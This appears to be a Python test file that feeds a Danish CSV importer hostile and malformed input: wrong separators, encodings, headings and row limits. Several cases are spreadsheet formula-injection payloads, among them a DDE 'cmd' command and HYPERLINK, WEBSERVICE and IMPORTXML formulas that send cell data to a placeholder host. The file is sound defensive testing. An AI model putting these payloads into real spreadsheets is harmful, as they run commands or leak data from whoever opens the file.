"""H36-H48: tables with separators, from Danish and other programs."""

from __future__ import annotations

from tests.hostile.reading import Case

HEADS = (
    "Kompetence, Krav, Antal, Krav senere, Antal senere, Antal på niveau 0, Antal på niveau 1, "
    "Antal på niveau 2, Antal på niveau 3, Antal på niveau 4, Antal, hvor I ikke ved det, Niveau, "
    "Personer, Betydning, Hast, Ubrugt, Slags."
)
NO_HEADS = (
    "Overskrifterne i filen “Tal fra Øst.csv” passer ikke til arket. Brug mindst én af disse i "
    f"den øverste linje: {HEADS}",
)

REMARK = "Usynlige tegn og dobbelte mellemrum er fjernet fra teksterne."


def line(text: str, krav: str = "3", encoding: str = "utf-8") -> bytes:
    quoted = '"' + text.replace('"', '""') + '"'
    return f"Kompetence;Krav\r\n{quoted};{krav}\r\n".encode(encoding)


def too_far(row: int, column: int) -> tuple[str]:
    return (
        f"I filen “Tal fra Øst.csv” står der noget i linje {row}, kolonne {column}. Der læses "
        "højst 1.000 linjer og 300 kolonner. Slet det, der står længere ude, og gem igen.",
    )


def text(number: int, what: str, typed: str, read: str = "", *said: str) -> tuple[Case, Case]:
    """A formula as it comes from others, and as our own export guards it: both are this text."""
    keeps = (read or typed,)
    return (
        Case(number, what, ("CSV",), lambda: line(typed), said, keeps),
        Case(number, f"{what}, guarded", ("CSV",), lambda: line(f"'{typed}"), said, keeps),
    )


CASES = (
    *text(36, "a command", "=cmd|' /C calc'!A0"),
    *text(37, "a plus", "+1+1"),
    *text(37, "a minus", "-1+1"),
    *text(37, "an at", "@SUM(A1)"),
    *text(38, "a tab first", "\t=1+1", "=1+1"),
    *text(38, "a line break first", "\r\n=1+1", "=1+1"),
    *text(38, "NUL first", "\0=1+1", "=1+1"),
    *text(39, "a space first", " =1+1", "=1+1"),
    *text(39, "a byte order mark first", "\ufeff=1+1", "=1+1", REMARK),
    *text(40, "a wide sign", "\uff1d1+1"),
    *text(41, "a link", '=HYPERLINK("https://ond.example/?x="&A1;"Tryk her")'),
    *text(41, "a web service", '=WEBSERVICE("https://ond.example/")'),
    *text(41, "an import", '=IMPORTXML("https://ond.example/";"//a")'),
    Case(42, "a quotation mark never closed", ("CSV",),
         lambda: b'Kompetence;Krav\r\n"Jura;3\r\nLedelse;2',
         ("I filen “Tal fra Øst.csv” er et anførselstegn i linje 2 ikke lukket. Ret det, "
          "og vælg filen igen.",)),
    Case(43, "rows of any length", ("CSV",),
         lambda: b"Kompetence;Krav\nJura\n\nLedelse;2;;;;\n", (), ("Jura", "Ledelse")),
    Case(43, "a cell without a heading", ("CSV",), lambda: b"Kompetence;Krav\nJura;3;x\n",
         ("Linje 1, kolonne 3. Kolonnen har ingen overskrift.",), ("Jura",)),
    Case(43, "10,000 columns", ("CSV",), lambda: b"Kompetence" + b";" * 10_000,
         too_far(1, 10_001)),
    Case(43, "10,000 lines", ("CSV",), lambda: b"Kompetence;Krav\n" + b"a;1\n" * 10_000,
         too_far(1001, 2)),
    Case(44, "separators of another country", ("CSV",),
         lambda: b"Kompetence,Krav\nJura,3\n", (), ("Jura",)),
    Case(44, "a separator that is no separator", ("CSV",),
         lambda: b"Kompetence|Krav\nJura|3\n", NO_HEADS),
    Case(44, "a first line that says the separator", ("CSV",),
         lambda: b"sep=|\nKompetence|Krav\nJura|3\n", (), ("Jura",)),
    Case(44, "a first line that says a quotation mark", ("CSV",),
         lambda: b'sep="\nKompetence"Krav\nJura"3\n',
         NO_HEADS),
    Case(45, "Windows-1252", ("CSV",), lambda: line("Sårpleje på Ærø", encoding="cp1252"), (),
         ("Sårpleje på Ærø",)),
    Case(45, "UTF-16 without a mark", ("CSV",), lambda: line("Sårpleje", encoding="utf-16-le"), (),
         ("Sårpleje",)),
    Case(46, "a comma for decimals where a whole number belongs", ("CSV",),
         lambda: line("Jura", "2,5"),
         ("Linje 2, kolonne 2: “2,5”. Skriv et helt tal i Krav. Der står 2,5.",), ("Jura",)),
    Case(46, "a point for decimals", ("CSV",), lambda: line("Jura", "2.5"),
         ("Linje 2, kolonne 2: “2.5”. Skriv et helt tal i Krav. Der står 2.5.",), ("Jura",)),
    Case(46, "a thousand where there are four", ("CSV",), lambda: line("Jura", "1.000"),
         ("Linje 2, kolonne 2: “1.000”. Skriv et tal fra 1 til 4 i Krav. Der står 1.000.",),
         ("Jura",)),
    Case(47, "no headings", ("CSV",), lambda: b"Jura;3\nLedelse;2\n", NO_HEADS),
    Case(47, "headings in English", ("CSV",), lambda: b"Competence;Level\nLaw;3\n", NO_HEADS),
    Case(47, "one heading renamed", ("CSV",), lambda: b"Kompetence;Niveaukrav\nJura;3\n",
         ("Linje 1, kolonne 2: “Niveaukrav”. Kolonnen hører ikke til her.",), ("Jura",)),
    Case(47, "the same heading twice", ("CSV",), lambda: b"Kompetence;Krav;Krav\nJura;3;4\n",
         ("Linje 1, kolonne 3: “Krav”. Overskriften står to gange. Kun den første er læst.",),
         ("Jura",)),
    *text(48, "a number below zero that is a text", "-2"),
    *text(48, "somebody's name on the net", "@navn"),
)  # fmt: skip
